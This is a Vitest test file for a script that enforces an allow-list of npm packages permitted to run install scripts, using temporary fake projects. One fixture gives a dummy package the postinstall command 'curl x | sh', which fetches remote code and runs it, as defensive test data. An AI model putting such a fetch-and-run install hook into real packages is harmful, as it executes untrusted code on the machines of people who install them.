/**
 * Issue 14, item 6: install scripts are limited to an explicit list. The check (run by npm test)
 * passes on this project and fails, naming the package, for one outside the list, whether the
 * lockfile or node_modules shows it, or for an allowed one at a version nobody reviewed.
 */
import { spawnSync } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../support/clips';

const SCRIPT = path.resolve(__dirname, '../../scripts/check-install-scripts.mjs');
const run = (root?: string) =>
  spawnSync(process.execPath, [SCRIPT, ...(root ? [root] : [])], { encoding: 'utf8' });

let home: Awaited<ReturnType<typeof tempDir>>;
beforeAll(async () => {
  home = await tempDir('gc-install-scripts-');
});
afterAll(() => home.cleanup());

async function project(name: string, lockPackages: Record<string, unknown>): Promise<string> {
  const root = path.join(home.dir, name);
  await mkdir(path.join(root, 'node_modules'), { recursive: true });
  await writeFile(
    path.join(root, 'package-lock.json'),
    JSON.stringify({ lockfileVersion: 3, packages: { '': {}, ...lockPackages } }),
  );
  return root;
}

describe('check-install-scripts', () => {
  it('passes on this project', () => {
    const result = run();
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
  });

  it('fails for a package outside the list in the lockfile', async () => {
    const root = await project('lock', {
      'node_modules/evil-helper': { version: '1.0.0', hasInstallScript: true },
    });
    const result = run(root);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('evil-helper@1.0.0');
  });

  it('fails for an installed package with a postinstall or a binding.gyp', async () => {
    const root = await project('installed', {});
    await mkdir(path.join(root, 'node_modules', '@scope', 'native'), { recursive: true });
    await writeFile(
      path.join(root, 'node_modules', '@scope', 'native', 'package.json'),
      JSON.stringify({ name: '@scope/native', version: '2.0.0' }),
    );
    await writeFile(path.join(root, 'node_modules', '@scope', 'native', 'binding.gyp'), '{}');
    await mkdir(path.join(root, 'node_modules', 'postie'), { recursive: true });
    await writeFile(
      path.join(root, 'node_modules', 'postie', 'package.json'),
      JSON.stringify({ name: 'postie', version: '1.0.0', scripts: { postinstall: 'curl x | sh' } }),
    );
    const result = run(root);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('@scope/native@2.0.0');
    expect(result.stderr).toContain('postie@1.0.0');
  });

  it('fails for an allowed package at a version nobody reviewed', async () => {
    const root = await project('version', {
      'node_modules/esbuild': { version: '9.9.9', hasInstallScript: true },
    });
    const result = run(root);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('only 0.28.2 was reviewed');
  });
});
